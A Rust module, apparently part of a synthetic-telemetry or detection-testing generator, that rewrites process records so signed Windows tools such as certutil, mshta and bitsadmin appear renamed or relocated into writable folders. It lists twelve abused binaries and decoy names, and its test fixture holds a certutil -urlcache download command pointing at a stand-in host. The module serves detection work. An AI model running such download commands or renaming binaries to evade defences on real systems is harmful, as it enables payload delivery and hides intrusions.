//! Renamed or relocated LOLBins: the attacker copies a signed Windows tool to
//! a writable directory, under its own name or another, and runs the copy.
//! The copy is the same file, so its PE metadata (`OriginalFileName`) and
//! hashes stay those of the original; only the image path and the program in
//! the command line change.

use super::cmdline::{program_arg, tool_name};
use crate::plan::rng::Rng;

/// Tools attackers copy and run from elsewhere.
const RELOCATABLE: [&str; 12] = [
    "certutil",
    "rundll32",
    "regsvr32",
    "mshta",
    "bitsadmin",
    "cscript",
    "wscript",
    "cmstp",
    "esentutl",
    "expand",
    "wmic",
    "msiexec",
];

/// Innocuous names a renamed copy is given (or it keeps its own).
const NEW_NAMES: [&str; 4] = ["update", "svc", "helper", "winupd"];

/// The new image and command line, or `None` when the process is not a
/// relocatable tool or its command line does not start with the program.
/// `profile` is the process user's profile directory.
pub fn apply(image: &str, line: &str, profile: &str, rng: &mut Rng) -> Option<(String, String)> {
    let tool = tool_name(image);
    if !RELOCATABLE.contains(&tool.as_str())
        || !image.to_ascii_lowercase().starts_with(r"c:\windows\")
    {
        return None;
    }
    let program = program_arg(line, image)?;
    let directory = rng
        .pick(&[
            format!(r"{profile}\AppData\Local\Temp"),
            r"C:\Users\Public".to_string(),
            r"C:\ProgramData".to_string(),
        ])
        .clone();
    let file = image.rsplit('\\').next().unwrap_or(image);
    let name = match rng.below(2) {
        0 => file.to_string(),
        _ => format!("{}.exe", rng.pick(&NEW_NAMES)),
    };
    let new_image = format!(r"{directory}\{name}");
    let shown = if line[program.clone()].starts_with('"') || new_image.contains(' ') {
        format!("\"{new_image}\"")
    } else {
        new_image.clone()
    };
    let mut new_line = line.to_string();
    new_line.replace_range(program, &shown);
    Some((new_image, new_line))
}

#[cfg(test)]
mod tests {
    use super::*;

    const IMAGE: &str = r"C:\Windows\System32\certutil.exe";
    const LINE: &str =
        r#""C:\Windows\system32\certutil.exe" -urlcache -f http://x.test/a C:\a.exe"#;

    #[test]
    fn copies_run_from_writable_directories_with_the_same_arguments() {
        let all: Vec<(String, String)> = (0..24)
            .filter_map(|n| {
                apply(
                    IMAGE,
                    LINE,
                    r"C:\Users\bob.keller",
                    &mut Rng::derive(n, "l"),
                )
            })
            .collect();
        assert_eq!(all.len(), 24);
        assert!(all.iter().any(|(i, _)| i.ends_with(r"\certutil.exe")));
        assert!(all.iter().any(|(i, _)| !i.ends_with(r"\certutil.exe")));
        for (image, line) in &all {
            assert!(!image.starts_with(r"C:\Windows"), "{image}");
            assert_eq!(
                line,
                &format!("\"{image}\" -urlcache -f http://x.test/a C:\\a.exe")
            );
        }
    }

    #[test]
    fn only_windows_tools_named_by_their_command_line() {
        let mut rng = Rng::derive(0, "l");
        assert_eq!(
            apply(
                r"C:\Windows\System32\whoami.exe",
                "whoami",
                "C:\\U",
                &mut rng
            ),
            None
        );
        assert_eq!(
            apply(r"C:\Temp\certutil.exe", "certutil -f", "C:\\U", &mut rng),
            None
        );
        assert_eq!(apply(IMAGE, "cmd /c certutil", "C:\\U", &mut rng), None);
    }
}
